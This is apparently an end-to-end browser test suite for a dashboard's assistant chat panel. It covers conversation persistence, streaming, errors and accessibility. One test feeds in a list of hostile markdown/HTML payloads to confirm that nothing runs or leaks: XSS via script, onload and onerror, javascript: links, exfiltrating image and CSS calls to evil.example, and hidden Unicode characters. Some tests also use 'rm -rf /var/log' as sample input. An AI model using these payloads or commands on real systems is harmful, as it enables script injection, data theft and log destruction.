// The assistant's panel and page in a real browser, against the real service.
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { answersOf, ask, composerOf, questionsOf, runBeside } from '../../e2e/support/ask.ts';
import { findBarriers } from '../../e2e/support/axe.ts';
import {
	type Dashboard,
	DESKTOP,
	openDashboard,
	PHONE,
	picture,
	ready,
	signIn,
	visit
} from '../../e2e/support/dashboard.ts';
import { afterFigures } from '../../e2e/support/later.ts';
import { collectScripts } from '../../e2e/support/scripts.ts';
import { startService } from '../../support/start-service.ts';

let dashboard: Dashboard;
beforeAll(async () => {
	dashboard = await openDashboard();
});
afterEach(() => dashboard.closePages());
afterAll(() => dashboard.close());

const rowsOf = (page: Page) => answersOf(page).last().locator('tbody tr');
const widerThanWindow = (page: Page): Promise<boolean> =>
	page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth);

describe('one conversation', () => {
	test('is the same in the panel and on the page, and is there after a reload', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/');
		await page.keyboard.press('Control+.');
		await composerOf(page).waitFor();
		await page.getByRole('button', { name: 'New conversation' }).click();
		await ask(page, 'How much memory is used?');
		await composerOf(page).fill('not sent');
		await page.getByRole('link', { name: 'Assistant', exact: true }).first().click();
		await page.waitForURL('**/assistant**');
		expect(await questionsOf(page).count()).toBe(1);
		expect(await composerOf(page).inputValue()).toBe('not sent');
		await page.reload();
		await ready(page);
		expect(await questionsOf(page).first().textContent()).toContain('How much memory is used?');
		expect(await composerOf(page).inputValue()).toBe('');
		expect(page.troubles).toEqual([]);
		await page.close();
	});

	test('gets its own address, and back and forward go between conversations', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await ask(page, 'uptime');
		await expect.poll(() => page.url()).toMatch(/\?c=[0-9a-f-]{36}$/);
		await page.getByRole('link', { name: 'New conversation' }).click();
		await expect.poll(() => questionsOf(page).count()).toBe(0);
		await ask(page, 'cpu?');
		await page.goBack();
		await expect.poll(async () => (await questionsOf(page).first().textContent())?.trim()).toBe('uptime');
		await page.goForward();
		await expect.poll(async () => (await questionsOf(page).first().textContent())?.trim()).toBe('cpu?');
		await page.close();
	});

	test('is deleted after asking', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await ask(page, 'what is the load of this doomed conversation');
		await page.getByRole('button', { name: /^Delete “what is the load of this doomed/ }).click();
		await page.getByRole('dialog').getByRole('button', { name: 'Delete', exact: true }).click();
		await expect.poll(() => page.getByRole('link', { name: /doomed/ }).count()).toBe(0);
		expect(await questionsOf(page).count()).toBe(0);
		await page.close();
	});

	test('shows in a second tab what was said in the first', async () => {
		const first = await dashboard.newPage();
		await visit(first, '/assistant?c=new');
		await ask(first, 'uptime');
		await first.waitForURL(/c=[0-9a-f-]{36}$/);
		const second = await first.context().newPage();
		await visit(second, first.url());
		await ask(first, 'how is the network doing');
		await expect.poll(() => questionsOf(second).count()).toBe(2);
		await first.context().close();
	});
});

describe('an answer under way', () => {
	test('grows, goes on over a reload, and is stopped by the button', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await composerOf(page).fill('watch the load for 2 minutes');
		await composerOf(page).press('Enter');
		await rowsOf(page).nth(1).waitFor();
		await page.reload();
		await ready(page);
		await rowsOf(page).nth(2).waitFor();
		const times = await rowsOf(page).evaluateAll((rows) => rows.map((row) => row.querySelector('td')?.textContent));
		expect(new Set(times).size).toBe(times.length);
		await page.getByRole('button', { name: 'Stop the answer' }).click();
		await answersOf(page).last().getByText('Stopped.', { exact: true }).waitFor();
		await page.getByRole('button', { name: 'Send' }).waitFor();
		expect(page.troubles).toEqual([]);
		await page.close();
	});

	test('that the service could not finish says so, and the question can be had again', async () => {
		const service = await startService();
		const other = await dashboard.newContext({ baseURL: service.url });
		await signIn(other, service);
		const page = await other.newPage();
		await visit(page, `${service.url}/assistant?c=new`);
		await composerOf(page).fill('watch the load for 5 minutes');
		await composerOf(page).press('Enter');
		await rowsOf(page).first().waitFor();
		await service.end('SIGKILL');
		await page.getByText('The connection to the service was lost.').waitFor();
		expect(await questionsOf(page).count()).toBe(1);
		const again = await startService({ directory: service.directory, args: ['--port', String(service.port)] });
		await page.getByText('The service was stopped before this answer was complete.').waitFor({ timeout: 30_000 });
		await page.getByRole('button', { name: 'Put the question back in the field' }).click();
		await expect.poll(() => composerOf(page).inputValue()).toBe('watch the load for 5 minutes');
		await other.close();
		await again.stop();
	});
});

test('English is answered as English, with two commands that fit, to be copied or staged', async () => {
	const page = await dashboard.newPage();
	await visit(page, '/assistant?c=new');
	await ask(page, 'list files');
	const answer = answersOf(page).first();
	await answer.getByText('I can’t answer that yet.').waitFor();
	expect(await answer.getByText('Safe', { exact: true }).count()).toBe(0);
	expect(await answer.getByRole('button', { name: 'Run' }).count()).toBe(2);
	expect(await questionsOf(page).first().locator('figure, code').count()).toBe(0);
	await ask(page, 'which node');
	await answersOf(page).nth(1).getByText('Safe', { exact: true }).waitFor();
	await page.close();
});

test('where nobody is sure, what may have been meant is pressed, and is then a question like any other', async () => {
	const page = await dashboard.newPage();
	await visit(page, '/assistant?c=new');
	await ask(page, 'disks network and containers');
	await answersOf(page).first().getByText('Did you mean one of these?').waitFor();
	const choices = answersOf(page).first().getByRole('list', { name: 'What you may have meant' }).getByRole('button');
	expect(await choices.count()).toBe(3);
	const [choice = ''] = await choices.allTextContents();
	await composerOf(page).fill('not sent');
	await choices.first().click();
	await answersOf(page).nth(1).and(page.locator('[aria-busy="false"]')).waitFor();
	expect((await questionsOf(page).nth(1).textContent())?.trim()).toContain(choice.trim());
	expect(await answersOf(page).nth(1).textContent()).not.toContain('Did you mean');
	expect(await composerOf(page).inputValue()).toBe('not sent');
	expect(page.troubles).toEqual([]);
	await page.close();
});

describe('a message that cannot be sent', () => {
	test('stands in the field again when the service does not answer', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await page.route('**/trpc/chat.send**', (route) => route.abort());
		await composerOf(page).fill('a long thought\nin two lines');
		await composerOf(page).press('Enter');
		await page.getByRole('alert').filter({ hasText: 'It is back in the field' }).waitFor();
		expect(await composerOf(page).inputValue()).toBe('a long thought\nin two lines');
		expect(await questionsOf(page).count()).toBe(0);
		await page.unroute('**/trpc/chat.send**');
		await composerOf(page).press('Enter');
		await questionsOf(page).first().waitFor();
		await page.close();
	});

	test('a refusal is told with the request id', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await page.route('**/trpc/chat.send**', async (route) =>
			route.fulfill({
				status: 429,
				headers: { 'x-request-id': 'request-42', 'content-type': 'application/json' },
				body: JSON.stringify({
					error: {
						message: 'x',
						code: -32029,
						data: { httpStatus: 429, detail: 'Too many at once.', errorCode: 'too-many-requests' }
					}
				})
			})
		);
		await composerOf(page).fill('hello');
		await composerOf(page).press('Enter');
		const alert = page.getByRole('alert').filter({ hasText: 'Too many at once.' });
		await alert.waitFor();
		expect(await alert.textContent()).toContain('request-42');
		expect(await composerOf(page).inputValue()).toBe('hello');
		await page.close();
	});

	test('and an ended session asks to sign in, over the text', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await page.context().clearCookies();
		await composerOf(page).fill('still here');
		await composerOf(page).press('Enter');
		await page.getByRole('dialog').getByText('Your session has ended').waitFor();
		expect(await composerOf(page).inputValue()).toBe('still here');
		await page.close();
	});

	test('one that is too long is not taken, and says so', async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await composerOf(page).fill('x'.repeat(100_001));
		await page.getByRole('alert').filter({ hasText: 'A message can have at most' }).waitFor();
		await composerOf(page).press('Enter');
		expect((await composerOf(page).inputValue()).length).toBe(100_001);
		expect(await questionsOf(page).count()).toBe(0);
		await page.close();
	});
});

/** Lets the browser read an answer that no engine of ours would give. */
async function showAnswer(page: Page, markdown: string): Promise<void> {
	await visit(page, '/assistant?c=new');
	await ask(page, 'uptime');
	await page.route('**/trpc/chat.open**', async (route) => {
		const answer = await route.fetch();
		const body = (await answer.json()) as { result: { data: { messages: { role: string; parts: unknown[] }[] } } };
		for (const message of body.result.data.messages)
			if (message.role === 'assistant') message.parts = [{ type: 'text', text: markdown }];
		await route.fulfill({ response: answer, json: body });
	});
	// The panel fetches the conversation itself.
	await page.goto('/');
	await ready(page);
	if (!(await composerOf(page).isVisible())) await page.keyboard.press('Control+.');
	await answersOf(page).first().waitFor();
}

describe('an answer is data', () => {
	const HOSTILE = [
		'![pixel](https://evil.example/p.png?q=secret) ![r][ref]',
		'<img src="https://evil.example/i.png"><script>globalThis.hit = 1</script><style>@import "https://evil.example/x.css";</style>',
		'<svg onload="globalThis.hit = 2"></svg><iframe src="https://evil.example"></iframe>',
		'<a href="javascript:globalThis.hit=3">plain</a>',
		'[click](javascript:globalThis.hit=4) [data](data:text/html,<script>globalThis.hit=5</script>)',
		'[Sign in](https://evil.example/login?next=here) <https://evil.example/auto>',
		'[half][ref] and [look](/\\evil.example)',
		'```mermaid\ngraph TD; A-->B[<img src=x onerror=globalThis.hit=6>]\n```',
		'$\\href{javascript:alert(1)}{x}$',
		'text \u001b[31mred\u001b[0m \u202ereversed\u202c zero\u200bwidth tag\u{e0041}\u{e0042}',
		'',
		'[ref]: https://evil.example/ref.png'
	].join('\n\n');

	test('no request leaves, nothing runs, links show where they lead, unseen characters are seen', async () => {
		const page = await dashboard.newPage();
		await showAnswer(page, HOSTILE);
		await afterFigures(page);
		const answer = answersOf(page).first();
		expect(page.troubles).toEqual([]);
		expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
		expect(await answer.locator('img, svg[onload], script, style, iframe, object, embed, form').count()).toBe(0);
		const links = await answer
			.locator('a')
			.evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
		for (const [href, rel] of links) {
			expect(href).toMatch(/^https?:\/\/evil\.example\//);
			expect(rel).toBe('noopener noreferrer');
		}
		const text = (await answer.textContent()) ?? '';
		expect(text).toContain('(https://evil.example/login?next=here)');
		expect(text).toContain('(javascript:globalThis.hit=4)');
		expect(text).toContain('<script>');
		for (const code of ['U+001B', 'U+202E', 'U+202C', 'U+200B', 'U+E0041']) expect(text).toContain(`⟨${code}⟩`);
		await page.close();
	});

	test.each([
		['desktop', DESKTOP],
		['phone', PHONE]
	])('long words, wide tables, other directions and long answers fit on a %s', async (name, viewport) => {
		const page = await dashboard.newPage({ viewport });
		const wide = `| ${Array.from({ length: 14 }, (_, i) => `column ${i}`).join(' | ')} |\n|${'---|'.repeat(14)}\n| ${Array.from({ length: 14 }, () => 'value').join(' | ')} |`;
		await showAnswer(
			page,
			[
				`A word: ${'x'.repeat(300)}`,
				'هذا النص من اليمين إلى اليسار، ويحتوي على أمر `df -h` في وسطه.',
				wide,
				`\`\`\`bash\necho ${'y'.repeat(400)}\n\`\`\``,
				`https://example.org/${'z'.repeat(300)}`,
				...Array.from({ length: 60 }, (_, i) => `Paragraph ${i} of a long answer that goes on and on.`)
			].join('\n\n')
		);
		expect(await widerThanWindow(page)).toBe(false);
		const overflowing = await answersOf(page)
			.first()
			.evaluate((article) => article.scrollWidth > article.clientWidth + 1);
		expect(overflowing).toBe(false);
		expect(await findBarriers(page)).toEqual([]);
		await page.getByRole('region', { name: 'Conversation' }).evaluate((list) => list.scrollTo(0, 0));
		await picture(page, `assistant-long-${name}`, false);
		await page.close();
	});
});

test('asked by keyboard alone: fold out, write, send, fold away', async () => {
	const page = await dashboard.newPage();
	await visit(page, '/');
	await page.keyboard.press('Control+.');
	await composerOf(page).waitFor();
	for (let i = 0; i < 60; i++) {
		if (await composerOf(page).evaluate((field) => field === document.activeElement)) break;
		await page.keyboard.press('Tab');
	}
	await page.keyboard.type('uptime');
	await page.keyboard.press('Enter');
	await answersOf(page).last().getByText('Running for').waitFor();
	await page.keyboard.press('Control+.');
	await composerOf(page).waitFor({ state: 'detached' });
	await page.close();
});

test('with the panel folded no script of the conversation is fetched before the page is ready', async () => {
	const page = await dashboard.newPage();
	const drawsMessages = (text: string): boolean => text.includes('codeBlockStyle');
	const { early, all } = await collectScripts(page);
	await visit(page, '/');
	expect((await early()).texts.some(drawsMessages)).toBe(false);
	// Once there is nothing else to do it is fetched, with the code of every page.
	await page.waitForSelector('html[data-whole]', { state: 'attached' });
	expect((await all()).texts.some(drawsMessages)).toBe(true);
	await page.close();
});

describe('a page with messages', () => {
	let address = '';
	beforeAll(async () => {
		const page = await dashboard.newPage();
		await visit(page, '/assistant?c=new');
		await ask(page, 'Is `rm -rf /var/log` safe?');
		await page.waitForURL(/c=[0-9a-f-]{36}$/);
		address = page.url();
	});
	const drawsMessages = (body: string): boolean => body.includes('codeBlockStyle');

	test('is ready before the code that draws messages is asked for, and is whole then', async () => {
		const page = await dashboard.newPage();
		const { early } = await collectScripts(page);
		await visit(page, address);
		expect(await questionsOf(page).count()).toBe(1);
		const { brotliBytes } = await early();
		console.log(`a page with messages: scripts before ready: ${(brotliBytes / 1000).toFixed(1)} KB`);
		expect(brotliBytes).toBeLessThan(76_000);
	});

	test('stands at its end and forgets no press while the code is on its way, and is then taken over as it stands', async () => {
		const page = await dashboard.newPage();
		let arrive = (): void => {};
		const held = new Promise<void>((resolve) => (arrive = resolve));
		await page.route(/\.js$/, async (route) => {
			const answer = await route.fetch();
			const body = await answer.text();
			if (drawsMessages(body)) await held;
			await route.fulfill({ response: answer, body });
		});
		await visit(page, address);
		const list = page.getByRole('region', { name: 'Conversation' });
		const toEnd = () => list.evaluate((e) => e.scrollHeight - e.scrollTop - e.clientHeight);
		expect(await toEnd()).toBeLessThan(2);
		const drawn = await answersOf(page).first().elementHandle();
		await runBeside(answersOf(page).first(), 'rm -rf /var/log').click();
		expect(await composerOf(page).inputValue()).toBe('');
		arrive();
		await expect.poll(() => composerOf(page).inputValue()).toContain('rm -rf /var/log');
		expect(await drawn?.evaluate((answer) => answer.isConnected)).toBe(true);
		await page.unrouteAll({ behavior: 'wait' });
		expect(page.troubles).toEqual([]);
	});

	test('stays to be read when that code cannot be had, and says so when there is more to show', async () => {
		const page = await dashboard.newPage();
		await page.route(/\.js$/, async (route) => {
			const answer = await route.fetch();
			const body = await answer.text();
			if (drawsMessages(body)) await route.abort();
			else await route.fulfill({ response: answer, body });
		});
		await visit(page, address);
		await answersOf(page).first().getByText('Deletes a directory').waitFor();
		await composerOf(page).fill('uptime');
		await composerOf(page).press('Enter');
		await page.getByText('This conversation could not be loaded').waitFor();
		await page.unrouteAll({ behavior: 'wait' });
		await page.getByRole('button', { name: 'Try again' }).click();
		await questionsOf(page).nth(1).waitFor();
	});
});

test('what is sent while the panel still fetches the last conversation stays in sight, and is answered', async () => {
	const page = await dashboard.newPage();
	await visit(page, '/');
	let release = () => {};
	const released = new Promise<void>((resolve) => {
		release = resolve;
	});
	await page.route(/\/trpc\/chat\.list/, async (route) => {
		await released;
		await route.continue();
	});
	await page.keyboard.press('Control+.');
	const field = page.getByLabel('Message to the assistant');
	await field.fill('is `df -h` safe?');
	await field.press('Enter');
	release();
	await page.locator('article[aria-label="Assistant"][aria-busy="false"]').last().waitFor();
	await expect.poll(() => page.locator('article').last().textContent()).toContain('df -h');
});

test('without JavaScript the conversation is there, and a clear word', async () => {
	const page = await dashboard.newPage({ javaScriptEnabled: false });
	const writer = await dashboard.newPage();
	await visit(writer, '/assistant?c=new');
	await ask(writer, 'uptime');
	await writer.waitForURL(/c=[0-9a-f-]{36}$/);
	await page.goto(writer.url());
	const notices = await page.locator('noscript').allTextContents();
	expect(notices.join(' ')).toContain('Writing to the assistant needs JavaScript');
	expect(await composerOf(page).isVisible()).toBe(false);
	expect(await page.getByRole('button', { name: 'Run' }).count()).toBe(0);
	expect(await page.getByText('Running for').isVisible()).toBe(true);
	await writer.close();
	await page.close();
});
